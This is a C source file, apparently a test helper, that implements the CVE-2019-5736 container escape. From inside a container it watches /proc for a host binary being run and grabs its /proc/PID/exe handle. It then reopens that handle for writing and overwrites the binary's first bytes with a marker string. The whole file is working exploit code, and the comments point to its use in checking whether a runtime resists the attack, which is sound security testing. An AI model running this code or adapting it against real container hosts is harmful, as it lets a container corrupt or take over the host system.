/* exe-overwrite: the CVE-2019-5736 attack, run inside a container.
 *
 *   exe-overwrite watch SECONDS
 *     Scan /proc for a process whose executable is not a file of this
 *     container (a host binary made to run here, e.g. through a script
 *     starting "#!/proc/self/exe", or a runtime process that joined the
 *     container), open its /proc/PID/exe with O_PATH the moment it shows,
 *     then reopen that handle for writing until the binary stops running
 *     (ETXTBSY) and write over its first bytes.
 *   exe-overwrite pid PID
 *     The same against one known pid (a process seen through --pid host).
 *
 * Prints one line per event: "caught PID", then "wrote" when the host's
 * binary was changed or "refused ERRNO_NAME" when the reopen failed for good,
 * or "missed" when nothing showed up in time. Exits 0 in every case: the
 * test reads the lines and compares the host binary's checksum. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static const char *errno_name(int e) {
  switch (e) {
  case EROFS:
    return "EROFS";
  case EPERM:
    return "EPERM";
  case EACCES:
    return "EACCES";
  case ETXTBSY:
    return "ETXTBSY";
  case ENOENT:
    return "ENOENT";
  default:
    return strerror(e);
  }
}

/* Is fd a file of this container, the one its /proc/PID/exe names? A host
 * binary's name does not lead to it from in here (or names a sealed copy:
 * "/" for a detached mount, "/memfd:..."), so it counts as foreign. */
static int is_local(int fd, const char *pid) {
  char p[64], link[4096];
  snprintf(p, sizeof(p), "/proc/%s/exe", pid);
  ssize_t n = readlink(p, link, sizeof(link) - 1);
  struct stat a, b;
  if (n <= 0 || fstat(fd, &a) < 0)
    return 0;
  link[n] = '\0';
  return stat(link, &b) == 0 && a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}

static int try_pid(const char *pid) {
  char p[64];
  snprintf(p, sizeof(p), "/proc/%s/exe", pid);
  int fd = open(p, O_PATH | O_CLOEXEC);
  if (fd < 0)
    return -1;
  if (is_local(fd, pid)) {
    close(fd);
    return -1;
  }
  return fd;
}

/* Reopen the handle for writing, retrying while the binary still runs. */
static void overwrite(int fd, double deadline) {
  char p[64];
  snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
  int e;
  do {
    int w = open(p, O_WRONLY | O_CLOEXEC);
    if (w >= 0) {
      ssize_t n = pwrite(w, "PWNED-BY-CONTAINER", 18, 0);
      e = n == 18 ? 0 : errno;
      close(w);
      if (e == 0) {
        printf("wrote\n");
        return;
      }
      break;
    }
    e = errno;
    usleep(1000);
  } while (e == ETXTBSY && now() < deadline);
  printf("refused %s\n", errno_name(e));
}

static int watch(double seconds, const char *only) {
  double deadline = now() + seconds;
  char me[16];
  snprintf(me, sizeof(me), "%d", (int)getpid());
  while (now() < deadline) {
    int fd = -1;
    char caught[300] = "";
    if (only) {
      fd = try_pid(only);
      snprintf(caught, sizeof(caught), "%s", only);
    } else {
      DIR *d = opendir("/proc");
      struct dirent *de;
      while (d && fd < 0 && (de = readdir(d)))
        if (de->d_name[0] >= '1' && de->d_name[0] <= '9' && strcmp(de->d_name, me) != 0 &&
            (fd = try_pid(de->d_name)) >= 0)
          snprintf(caught, sizeof(caught), "%s", de->d_name);
      if (d)
        closedir(d);
    }
    if (fd >= 0) {
      printf("caught %s\n", caught);
      fflush(stdout);
      overwrite(fd, now() + 5);
      return 0;
    }
  }
  printf("missed\n");
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc == 3 && strcmp(argv[1], "watch") == 0)
    return watch(atof(argv[2]), NULL);
  if (argc == 3 && strcmp(argv[1], "pid") == 0)
    return watch(5, argv[2]);
  fprintf(stderr, "usage: exe-overwrite watch SECONDS | pid PID\n");
  return 2;
}
